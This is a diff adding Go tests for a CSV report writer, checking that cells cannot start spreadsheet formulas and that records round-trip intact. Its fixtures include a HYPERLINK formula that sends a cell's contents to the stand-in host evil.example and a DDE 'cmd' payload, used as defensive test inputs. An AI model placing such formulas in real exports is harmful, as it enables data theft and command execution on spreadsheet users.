@@ -7,6 +7,7 @@ import (
 	"encoding/json"
 	"errors"
 	"reflect"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -212,4 +213,109 @@ func TestRecordTimes(t *testing.T) {
 	if d := rep.Stats.Durations; d.P50 != 21*time.Second || d.Max != 31*time.Second || d.Min != 11*time.Second {
 		t.Errorf("durations %+v", d)
 	}
+}
+
+var negativeNumber = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)
+
+// TestCSVFormulaSafe checks that no cell of a CSV report starts a formula
+// when a spreadsheet opens it (issue 11, item 15), that ReadCSV gives back
+// every record as it was, a value that itself starts with "'" included, and
+// that the JSON report carries the strings as they are.
+func TestCSVFormulaSafe(t *testing.T) {
+	recs := []Record{
+		{ID: `=HYPERLINK("http://evil.example/?"&A1,"details")`, Group: "+g", Tags: []string{"@x", "-y"}, Outcome: Failed,
+			Phase: "-patch", Attempts: 1, Start: t0, End: t0.Add(time.Second), Error: "-2+3+cmd|' /C calc'!A0"},
+		{ID: "'already-quoted", Group: "''", Outcome: Failed, Phase: "\tpatch", Attempts: 2, Start: t0, End: t0.Add(time.Second),
+			Error: "\r=1+1"},
+		{ID: "-1", Outcome: Killed, Phase: "@verify", Attempts: 1, Start: t0, End: t0.Add(time.Second), Error: "=1"},
+		// A clock stepped back: a negative duration is a number, not text.
+		{ID: "stepped", Outcome: Succeeded, Attempts: 1, Start: t0, End: t0.Add(-250 * time.Millisecond)},
+	}
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, recs); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, row := range rows[1:] {
+		for j, cell := range row {
+			if cell == "" {
+				continue
+			}
+			switch cell[0] {
+			case '=', '+', '@', '\t', '\r':
+				t.Errorf("row %d %s: %q starts a formula", i+1, csvHeader[j], cell)
+			case '-':
+				// A plain negative number is a number to a spreadsheet.
+				if !negativeNumber.MatchString(cell) {
+					t.Errorf("row %d %s: %q starts with '-'", i+1, csvHeader[j], cell)
+				}
+			}
+		}
+	}
+	if want := `'=HYPERLINK("http://evil.example/?"&A1,"details")`; rows[1][0] != want {
+		t.Errorf("id %q, want %q", rows[1][0], want)
+	}
+	if rows[1][2] != "'@x -y" || rows[2][0] != "''already-quoted" || rows[2][1] != "'''" || rows[3][0] != "-1" || rows[4][8] != "-0.250000" {
+		t.Errorf("rows %q", rows[1:])
+	}
+	back, err := ReadCSV(bytes.NewReader(buf.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs[1].Error = "\n=1+1" // line breaks are written as line feeds
+	if !reflect.DeepEqual(back, recs) {
+		t.Errorf("round trip:\n got %+v\nwant %+v", back, recs)
+	}
+
+	js, err := json.Marshal(recs[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(js), `"id":"=HYPERLINK(`) {
+		t.Errorf("JSON escapes: %s", js)
+	}
+}
+
+// FuzzCSVRoundTrip checks that any record WriteCSV writes reads back as it
+// was, whatever its strings start with, that no cell starts a formula, and
+// that ReadCSV never panics on what it reads.
+func FuzzCSVRoundTrip(f *testing.F) {
+	f.Add("=1+1", "+g", "@tag", "-patch", "'err", []byte("id,x\r\n"))
+	f.Add("-1", "", "", "", "\t=1", []byte{})
+	f.Fuzz(func(t *testing.T, id, group, tag, phase, errText string, raw []byte) {
+		_, _ = ReadCSV(bytes.NewReader(raw))
+		rec := Record{ID: id, Group: group, Outcome: Failed, Phase: phase, Attempts: 1, Start: t0, End: t0.Add(time.Second), Error: errText}
+		if tag != "" && !strings.Contains(tag, " ") {
+			rec.Tags = []string{tag}
+		}
+		var buf bytes.Buffer
+		if err := WriteCSV(&buf, []Record{rec}); err != nil {
+			return // not UTF-8 or the like: encoding/csv refuses it
+		}
+		rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+		if err != nil {
+			t.Fatalf("encoding/csv: %v", err)
+		}
+		for _, cell := range rows[1] {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) || cell != "" && cell[0] == '-' && !negativeNumber.MatchString(cell) {
+				t.Fatalf("cell %q starts a formula", cell)
+			}
+		}
+		back, err := ReadCSV(bytes.NewReader(buf.Bytes()))
+		if err != nil {
+			t.Fatalf("ReadCSV: %v", err)
+		}
+		rec.Error = oneNewline.Replace(rec.Error)
+		// encoding/csv reads a lone carriage return inside a field, or at
+		// the end of a line, as a line feed or not at all.
+		if strings.ContainsRune(id+group+tag+phase, '\r') {
+			return
+		}
+		if !reflect.DeepEqual(back, []Record{rec}) {
+			t.Fatalf("round trip:\n got %+v\nwant %+v", back, []Record{rec})
+		}
+	})
 }
